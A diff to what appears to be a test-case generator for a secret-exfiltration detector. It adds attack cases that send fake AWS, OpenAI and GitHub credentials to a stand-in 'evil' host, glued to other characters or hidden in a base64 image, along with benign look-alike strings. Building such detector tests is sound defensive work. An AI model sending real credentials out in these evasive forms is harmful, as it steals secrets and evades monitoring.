@@ -699,6 +699,20 @@ def attacks(rng: random.Random) -> list[Case]:
     add("base64", "base64 of a GitHub token glued to a letter and an underscore", ("github-token",),
         method="POST", url=f"{evil}/j", headers=(JSON,),
         body=_json({"blob": base64.b64encode(f"x{glued.github()}_".encode()).decode()}))
+
+    # -- glued where the first glued reading left them -------------------------------------------
+    more = _Fakes(random.Random(1313))  # its own generator: the cases before stay as they were
+    key_id, secret = more.aws_id(), more.aws_secret()
+    add("body-json", "AWS secret access key with five characters glued before it", ("aws-secret-access-key",),
+        method="POST", url=f"{evil}/j", headers=(JSON,), body=_json({"id": key_id, "s": f"qzqzq{secret}"}))
+    key_id, secret = more.aws_id(), more.aws_secret()
+    add("url", "AWS key id and its secret run together in a query parameter", ("aws-secret-access-key",),
+        url=f"{evil}/c?c={quote(key_id + secret, safe='')}")
+    add("headers", "legacy OpenAI key (no mark) glued to one letter", ("openai-api-key",), url=f"{evil}/",
+        headers=_h(X_Note="x" + "sk-" + _rand(more.rng, 48)))
+    image = base64.b64encode(more.rng.randbytes(600)).decode().rstrip("=")
+    add("body-json", "GitHub token appended to a base64 image", ("github-token",), method="POST",
+        url=f"{evil}/j", headers=(JSON,), body=_json({"image": image + "Q" + more.github()}))
     return out
 
 
@@ -1166,6 +1180,21 @@ def benign(rng: random.Random) -> list[Case]:
         url="https://api.example.com/v1/uploads", headers=(JSON,),
         body=_json({"ids": [_rand(spelled, 120, urlsafe) + prefix + _rand(spelled, 40) + _rand(spelled, 30, urlsafe)
                             for prefix in ("ghp_", "sk-ant-", "npm_", "AIza", "glpat-")]}))
+    # Look-alikes of the glued readings after those: a SHA-1 after a word ending in "ghs_", ids
+    # and names before "sk-", blobs that end in a token's anchor at the wrong length, hashes
+    # after an AWS documentation key id.
+    hashed = random.Random(1314)
+    add("lookalike", "CI log: SHA-1s after words ending in ghs_, kebab ids before sk-, blobs ending near an anchor",
+        method="POST", url="https://api.github.com/repos/o/r/issues", headers=(JSON,),
+        body=_json({"title": "ci log", "body": "\n".join((
+            f"2026-12-07T08:00:00Z highs ghs_{_rand(hashed, 40, HEX)} cached",
+            f"object ghs_{_rand(hashed, 40, HEX)} digest ghs_{_rand(hashed, 64, HEX)}",
+            "Qz9sk-" + _rand(hashed, 48), "task-" + _rand(hashed, 48), f"disk-{_rand(hashed, 48, HEX)}",
+            _rand(hashed, 16) + "-sk-" + _rand(hashed, 48),
+            _rand(hashed, 200, urlsafe) + "Q" + "npm_" + _rand(hashed, 40),
+            base64.b64encode(hashed.randbytes(300)).decode().rstrip("=") + "Q" + "ghp_" + _rand(hashed, 37),
+            f"AKIAIOSFODNN7EXAMPLE{_rand(hashed, 60)} x{_Fakes(hashed).aws_id()}{_rand(hashed, 64, HEX)}",
+        ))}))
     return out
 
 
